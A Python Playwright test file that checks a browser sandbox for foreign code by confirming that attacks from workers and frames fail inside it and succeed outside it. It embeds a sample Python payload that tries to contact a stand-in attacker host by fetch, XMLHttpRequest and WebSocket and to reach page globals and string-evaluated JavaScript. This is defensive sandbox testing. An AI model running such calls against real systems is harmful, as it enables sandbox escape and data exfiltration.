"""Attacks of foreign code: each fails in the sandbox, and the same attack succeeds without it."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Frame, Page, Worker

from tests.tiers import usually
from tests.web.foreign.attacks import (
    FROM_FRAME,
    FROM_WORKER,
    LEAVING,
    TRY,
    answers,
    around,
    free_frame,
    free_worker,
    inside,
    lives,
    ready,
    tried,
)
from tests.web.foreign.coded import SOURCE, Stranger, run

Place = Worker | Frame


def fails(
    page: Page,
    evil: Stranger,
    attack: str,
    free: Callable[[Page, Stranger], Place],
    sandboxed: Callable[[Page], Place],
) -> None:
    """Assert that the attack succeeds where nothing holds it back, and fails in the sandbox."""
    told = tried(free(page, evil), attack, evil)
    assert told == "through" or evil.hears("/a"), told
    ready(page)
    run(page)
    evil.forget()
    assert tried(sandboxed(page), attack, evil) != "through"
    answers(page)
    assert not evil.heard


@usually(1)
@pytest.mark.parametrize("attack", FROM_WORKER)
def test_an_attack_from_a_worker_fails(attack: str, apart: Page, evil: Stranger) -> None:
    """The control is a worker of a page without policy."""
    fails(apart, evil, FROM_WORKER[attack], free_worker, inside)


@usually(0)
@pytest.mark.parametrize("attack", FROM_FRAME)
def test_an_attack_from_the_frame_fails(attack: str, apart: Page, evil: Stranger) -> None:
    """The control is a frame of the same site."""
    fails(apart, evil, FROM_FRAME[attack], free_frame, around)


@usually(1)
@pytest.mark.parametrize("attack", LEAVING)
def test_the_frame_goes_nowhere(attack: str, apart: Page, evil: Stranger) -> None:
    """The control comes first: a frame of the same site goes, or the page goes with it."""
    control = apart.context.new_page()
    tried(free_frame(control, evil), LEAVING[attack], evil)
    assert evil.hears("/a")
    ready(apart)
    run(apart)
    evil.forget()
    tried(around(apart), LEAVING[attack], evil)
    lives(apart)
    assert not evil.heard


@usually(0)
def test_a_broadcast_is_not_heard(apart: Page) -> None:
    """The control is a broadcast of the page itself, after that of the sandbox."""
    ready(apart)
    apart.evaluate(
        """() => {
            globalThis.heard = [];
            new BroadcastChannel("gridwright").onmessage = ({ data }) => heard.push(data);
        }"""
    )
    say = """(word) => { new BroadcastChannel("gridwright").postMessage(word); }"""
    run(apart)
    inside(apart).evaluate(say, "from the sandbox")
    apart.evaluate(say, "from the page")
    apart.wait_for_function("heard.includes('from the page')")
    answers(apart)
    assert apart.evaluate("heard") == ["from the page"]


@usually(0)
def test_the_service_worker_is_out_of_reach(apart: Page) -> None:
    """The control is the page itself."""
    ready(apart)
    count = "async () => (await navigator.serviceWorker.getRegistrations()).length"
    assert apart.evaluate(count) == 0
    run(apart)
    attack = TRY.replace("ATTACK", f"return ({count})()")
    assert inside(apart).evaluate(attack, "").startswith("TypeError")


REACHING = """
import js

for name in ("fetch", "XMLHttpRequest", "WebSocket"):
    try:
        if name == "fetch":
            js.fetch("EVIL/a")
        elif name == "WebSocket":
            js.WebSocket.new("EVIL/a".replace("http", "ws"))
        else:
            asked = js.XMLHttpRequest.new()
            asked.open("GET", "EVIL/a", False)
            asked.send()
    except Exception:
        pass
for name in ("document", "parent", "localStorage", "opener"):
    assert not hasattr(js, name), name
try:
    js.Function.new("return 1")()
except Exception:
    pass
else:
    raise SystemExit("JavaScript runs from a text")
"""


@usually(0)
def test_python_reaches_nobody(apart: Page, evil: Stranger) -> None:
    """It has the same objects as the attacks above, which are its controls."""
    ready(apart)
    run(apart, SOURCE + REACHING.replace("EVIL", evil.url))
    answers(apart)
    assert not evil.heard
